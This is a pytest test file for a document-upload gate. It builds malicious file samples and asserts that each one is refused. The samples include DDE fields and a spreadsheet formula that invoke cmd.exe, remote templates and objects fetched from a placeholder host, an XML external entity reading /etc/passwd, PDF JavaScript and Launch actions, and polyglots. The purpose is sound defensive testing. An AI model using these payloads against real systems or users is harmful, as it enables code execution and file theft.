"""Files as weapons (reviewed break 9): each is recognised by what it does, whatever it is called, at every door."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from pypdf import PdfReader, PdfWriter

from gongkai.paper.gate.doors import Door, codes, kinds_at, words_for
from gongkai.paper.gate.hazard import NotAdmitted
from gongkai.paper.gate.judge import judged, through, why_not_admitted
from paper.gate.weapons import (
    COMPOUND,
    MICROSOFT,
    OFFICE,
    VBA,
    drawing,
    hidden_member,
    huge_picture,
    letter,
    other_name_in_front,
    packed_paper,
    paper,
    photograph,
    swollen,
    twice_the_same_part,
    with_field,
    with_parts,
    workbook,
)

_BOOK = "xl/_rels/workbook.xml.rels"
_SETTINGS = "word/_rels/settings.xml.rels"


def locked(word: str) -> bytes:
    """A PDF that opens with a password only."""
    writer, out = PdfWriter(clone_from=PdfReader(io.BytesIO(paper()))), io.BytesIO()
    writer.encrypt(word, owner_password="owner", algorithm="AES-256")  # noqa: S106
    writer.write(out)
    return out.getvalue()


def of_types(package: bytes) -> bytes:
    """The part that says of which type the others are."""
    return zipfile.ZipFile(io.BytesIO(package)).read("[Content_Types].xml")


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("readme.txt", "x")
    return out.getvalue()


def with_image(content: bytes) -> bytes:
    """A letter in which this stands as a picture."""
    return with_parts(letter(), {"word/media/image1.png": content})


def with_attached() -> bytes:
    writer, out = PdfWriter(clone_from=PdfReader(io.BytesIO(paper()))), io.BytesIO()
    writer.add_attachment("run.exe", b"MZ")
    writer.write(out)
    return out.getvalue()


WEAPONS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("empty", lambda: b" \r\n"),
    "macros under another name": ("macros", lambda: with_parts(
        letter(), {"word/picture.bin": VBA}, types={"word/picture.bin": "application/vnd.ms-office.vbaProject"},
        relations=[("vbaProject", "picture.bin", MICROSOFT)])),
    "macros that only a relation names": ("macros", lambda: with_parts(
        letter(), {"word/picture.emf": b"x"}, types={"word/picture.emf": "image/x-emf"},
        relations=[("vbaProject", "picture.emf", MICROSOFT)])),
    "a document that says it has macros": ("macros", lambda: with_parts(letter(), {
        "[Content_Types].xml": of_types(letter()).replace(
            b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"vnd.ms-word.document.macroEnabled.main+xml")})),
    "macros that nothing names": ("macros", lambda: with_image(VBA)),
    "a sheet of old macros": ("macro_sheet", lambda: with_parts(
        workbook(), {"xl/worksheets/sheet9.xml": "<m/>"},
        types={"xl/worksheets/sheet9.xml": "application/vnd.ms-excel.macrosheet+xml"},
        relations=[("xlMacrosheet", "worksheets/sheet9.xml", MICROSOFT)], owner=_BOOK)),
    "a template fetched from afar": ("remote_template", lambda: with_parts(
        letter(), relations=[("attachedTemplate", "https://example.invalid/a.dotm", OFFICE)], outside=True,
        owner=_SETTINGS)),
    "a template on a neighbour's disk": ("remote_template", lambda: with_parts(
        letter(), relations=[("attachedTemplate", "file://neighbour/share/a.dotm", OFFICE)], outside=True,
        owner=_SETTINGS)),
    "a field that calls a program": ("dde", lambda: with_field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
    "a field cut into pieces": ("dde", lambda: with_field("D", "DEA", "UTO c:\\\\cmd.exe")),
    "a simple field": ("dde", lambda: with_field("DDE cmd", simple=True)),
    "a field spelled by numbers": ("dde", lambda: with_field("QUOTE 68 68 69 65 85 84 79")),
    "a field that fetches a text": ("external_content", lambda: with_field('INCLUDETEXT "https://example.invalid/a"')),
    "a workbook that calls a program": ("dde", lambda: with_parts(
        workbook(), {"xl/externalLinks/externalLink1.xml": (
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')},
        types={"xl/externalLinks/externalLink1.xml":
               "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"},
        relations=[("externalLink", "externalLinks/externalLink1.xml", OFFICE)], owner=_BOOK)),
    "a formula that calls a program": ("dde", lambda: workbook(("=cmd|'/c calc'!A0",))),
    "another workbook": ("external_link", lambda: with_parts(
        workbook(), relations=[("externalLinkPath", "file:///C:/other.xlsx", OFFICE)], outside=True, owner=_BOOK)),
    "an object of another program": ("embedded_object", lambda: with_parts(
        letter(), {"word/embeddings/oleObject1.bin": COMPOUND + "Equation Native".encode("utf-16-le")},
        relations=[("oleObject", "embeddings/oleObject1.bin", OFFICE)])),
    "a file within an object": ("embedded_file", lambda: with_parts(
        letter(), {"word/embeddings/x.dat": COMPOUND + "\x01Ole10Native".encode("utf-16-le")},
        relations=[("oleObject", "embeddings/x.dat", OFFICE)])),
    "an object fetched from afar": ("external_content", lambda: with_parts(
        letter(), relations=[("oleObject", "https://example.invalid/x", OFFICE)], outside=True)),
    "an ActiveX control": ("active_control", lambda: with_parts(
        letter(), {"word/a.xml": "<a/>"}, types={"word/a.xml": "application/vnd.ms-office.activeX+xml"},
        relations=[("control", "a.xml", OFFICE)])),
    "a screen saver": ("program", lambda: with_parts(letter(), {"word/media/name.scr": b"anything"})),
    "a shortcut": ("program", lambda: with_image(b"L\0\0\0\x01\x14\x02\0" + bytes(80))),
    "a program called a picture": ("program", lambda: with_image(b"MZ\x90\0" + bytes(80))),
    "an archive in the document": ("nested_archive", lambda: with_image(b"Rar!\x1a\x07\0")),
    "another document taken in": ("alt_chunk", lambda: with_parts(
        letter(), {"word/a.htm": "<html/>"}, relations=[("aFChunk", "a.htm", OFFICE)])),
    "the same part twice": ("ambiguous", twice_the_same_part),
    "another name before the part": ("ambiguous", other_name_in_front),
    "a part that the directory does not name": ("ambiguous", hidden_member),
    "a zip that goes on behind its end": ("ambiguous", lambda: letter() + b"\0" * 10),
    "a text part elsewhere": ("ambiguous", lambda: with_parts(letter(), {
        "[Content_Types].xml": of_types(letter()).replace(b"/word/document.xml", b"/word/styles2.xml"),
        "word/styles2.xml": "<w/>"})),
    "a part that declares entities": ("doctype", lambda: with_parts(letter(), {
        "word/document.xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'})),
    "one that unpacks to hundreds of megabytes": ("too_large_inside", swollen),
    "an encrypted document": ("encrypted", lambda: COMPOUND + "EncryptedPackage".encode("utf-16-le")),
    "a PDF with a password": ("encrypted", lambda: locked("secret")),
    "a PDF with a script": ("pdf_script", lambda: paper(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "a script with an escaped name": ("pdf_script", lambda: paper(
        b"/OpenAction << /S /J#61vaScr#69pt /#4aS (app.alert(1)) >>")),
    "a script in a packed object": ("pdf_script", lambda: packed_paper(b"<< /S /JavaScript /JS (x) >>")),
    "a script whose kind is an object of its own": ("pdf_script", lambda: paper(
        b"/OpenAction << /S 10 0 R /JS (x) >>", n10=b"/JavaScript")),
    "a PDF that starts a program": ("pdf_launch", lambda: paper(
        page=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>")),
    "a PDF that does something on opening": ("pdf_action", lambda: paper(b"/OpenAction << /S /Unheard /D 1 >>")),
    "a PDF that opens another file": ("pdf_elsewhere", lambda: paper(
        page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//host/a.pdf) /D [0] >> >>]")),
    "a PDF that sends what was filled in": ("pdf_send", lambda: paper(
        n10=b"<< /S /SubmitForm /F (http://example.invalid) >>")),
    "a PDF with a file in it": ("pdf_files", with_attached),
    "a PDF with a film": ("pdf_media", lambda: paper(
        page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]")),
    "a form that changes itself": ("pdf_form", lambda: paper(b"/AcroForm << /Fields [] /XFA (x) >>")),
    "a PDF and an archive": ("polyglot", lambda: paper() + letter()),
    "half a PDF": ("broken", lambda: b"%PDF-1.7\n" + b"0" * 100),
    "a picture of 3.6 gigapixels": ("picture_size", huge_picture),
    "a page called a picture": ("broken", lambda: b"\xff\xd8\xff<html><script>alert(1)</script></html>"),
    "a picture and a page": ("polyglot", lambda: photograph() + b"<html><script>alert(1)</script></html>"),
    "a drawing and an archive": ("polyglot", lambda: drawing() + letter()),
    "a page in the remark of a picture": ("polyglot", lambda: photograph(comment=b"<script>alert(1)</script>")),
    "a drawing made of markup": ("svg", lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
    "a program": ("type", lambda: b"MZ\x90\0" + bytes(100)),
    "a page": ("type", lambda: b"<html><body><p>x</p></body></html>"),
    "a program before a PDF": ("type", lambda: b"MZ%PDF-1.7" + bytes(100)),
    "an archive": ("type", archive),
}  # fmt: skip


@pytest.mark.parametrize(("code", "make"), WEAPONS.values(), ids=WEAPONS)
def test_an_applicant_hands_in_no_weapon(code: str, make: Callable[[], bytes]) -> None:
    with pytest.raises(NotAdmitted) as refused:
        judged(io.BytesIO(make()), Door.APPLICANT)
    assert refused.value.code == code


def test_what_was_found_is_named_with_its_place_and_what_to_do() -> None:
    macros = with_parts(letter(), {"word/media/image1.png": VBA})
    with pytest.raises(NotAdmitted) as refused:
        through(macros, Door.APPLICANT)
    assert why_not_admitted(refused.value) == (
        "文件带有宏（word/media/image1.png）：请另存为不带宏的docx、xlsx，或者转成pdf"
    )
    with pytest.raises(NotAdmitted) as unknown:
        through(b"MZ" + bytes(100), Door.PROOF)
    assert why_not_admitted(unknown.value) == "文件的内容不是这里收的类型：只收jpg、png、pdf文件"


def test_a_kind_that_a_door_does_not_take_is_refused_there() -> None:
    for door, kind in ((Door.PROOF, letter()), (Door.SEAL, photograph()), (Door.SHEET, letter())):
        with pytest.raises(NotAdmitted) as refused:
            through(kind, door)
        assert refused.value.code == "type"


@pytest.mark.parametrize("door", list(Door))
def test_no_door_takes_what_runs_or_fetches(door: Door) -> None:
    """Whatever else doors differ in. Of a PDF that a reply gives, only pages that are written anew go out."""
    never = ("macros", "dde", "program", "pdf_launch", "remote_template", "ambiguous", "polyglot", "picture_size")
    for code, make in WEAPONS.values():
        if code in never:
            with pytest.raises(NotAdmitted):
                judged(io.BytesIO(make()), door)


def test_every_hazard_has_words_and_every_door_has_kinds() -> None:
    assert all(words_for(code).found and words_for(code).do for code in codes())
    assert all(kinds_at(door) for door in Door)
